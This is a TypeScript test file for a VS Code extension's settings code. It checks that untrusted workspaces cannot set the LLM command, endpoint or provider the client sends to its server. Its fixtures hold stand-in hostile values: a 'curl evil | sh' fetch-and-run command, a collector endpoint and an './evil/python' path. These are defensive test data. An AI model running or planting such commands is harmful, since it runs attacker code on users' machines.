// What the client sends to the server and uses itself, from what VS Code's inspect() reports,
// in trusted and untrusted workspaces (src/values.ts).

import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { collect, explicitValue, Inspected, namesSetIn } from '../src/values';

const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'package.json'), 'utf8'));
const RESTRICTED: string[] = manifest.capabilities.untrustedWorkspaces.restrictedConfigurations;
const KEYS = Object.keys(manifest.contributes.configuration.properties)
    .map((k) => k.slice('ckp.'.length))
    .filter((k) => !k.startsWith('server.') && !k.startsWith('trace.'));

/** A workspace that sets a command, an endpoint and a provider, as a cloned repository could. */
const HOSTILE: Record<string, Inspected> = {
    'llm.provider': { globalValue: 'offline', workspaceValue: 'command' },
    'llm.command': { workspaceValue: 'sh -c "curl evil | sh"' },
    'llm.baseUrl': { workspaceFolderValue: 'https://collector.example/v1' },
    'llm.model': { workspaceValue: 'some-model' },
    staleness: { workspaceValue: 'git' },
    diagnostics: { globalValue: { CKP046: 'off' }, workspaceValue: { CKP032: 'hint' } },
};
const inspect = (key: string) => HOSTILE[key];

test('trusted workspace: every set value is sent, the most specific level wins, objects merge', () => {
    const { settings, ignored } = collect(KEYS, inspect, RESTRICTED, true);
    assert.deepEqual(settings, {
        staleness: 'git',
        diagnostics: { CKP046: 'off', CKP032: 'hint' },
        llm: {
            provider: 'command',
            command: 'sh -c "curl evil | sh"',
            baseUrl: 'https://collector.example/v1',
            model: 'some-model',
        },
    });
    assert.deepEqual(ignored, []);
});

test('untrusted workspace: workspace values of program, endpoint and provider settings are not sent', () => {
    const { settings, ignored } = collect(KEYS, inspect, RESTRICTED, false);
    assert.deepEqual(settings, {
        staleness: 'git',
        diagnostics: { CKP046: 'off', CKP032: 'hint' },
        // the user's own provider stays; the workspace's command and endpoint are gone
        llm: { provider: 'offline', model: 'some-model' },
    });
    assert.deepEqual(ignored.sort(), ['ckp.llm.baseUrl', 'ckp.llm.command', 'ckp.llm.provider']);
});

test('untrusted workspace: user values of restricted settings still apply', () => {
    const user: Record<string, Inspected> = {
        'llm.command': { globalValue: 'my-llm --stdin' },
        'llm.baseUrl': { globalValue: 'http://localhost:11434/v1', workspaceValue: 'https://elsewhere/v1' },
    };
    const { settings, ignored } = collect(KEYS, (k) => user[k], RESTRICTED, false);
    assert.deepEqual(settings, { llm: { command: 'my-llm --stdin', baseUrl: 'http://localhost:11434/v1' } });
    assert.deepEqual(ignored, ['ckp.llm.baseUrl']);
});

test('the server settings of the client (ckp.server.*) take the user value only when untrusted', () => {
    const info: Inspected = { globalValue: '/usr/bin/python3.12', workspaceValue: './evil/python' };
    assert.equal(explicitValue(info, false).value, './evil/python');
    assert.deepEqual(explicitValue(info, true), { value: '/usr/bin/python3.12', ignored: true });
    assert.deepEqual(explicitValue({ workspaceFolderLanguageValue: 'x' }, true), { ignored: true });
    assert.deepEqual(explicitValue(undefined, true), { ignored: false });
});

test('defaults are never sent', () => {
    const { settings } = collect(KEYS, () => ({}), RESTRICTED, true);
    assert.deepEqual(settings, {});
});

test('the restricted settings a workspace settings file sets are found, comments aside', () => {
    const text = `{
        // "ckp.server.path": "commented out",
        /* "ckp.llm.baseUrl": "also commented out" */
        "ckp.llm.command": "sh -c evil",
        "ckp.llm.provider" : "command",
        "ckp.staleness": "git",
        "ckp.llm.commandX": "not this one"
    }`;
    assert.deepEqual(namesSetIn(text, RESTRICTED).sort(), ['ckp.llm.command', 'ckp.llm.provider']);
    assert.deepEqual(namesSetIn('{}', RESTRICTED), []);
});
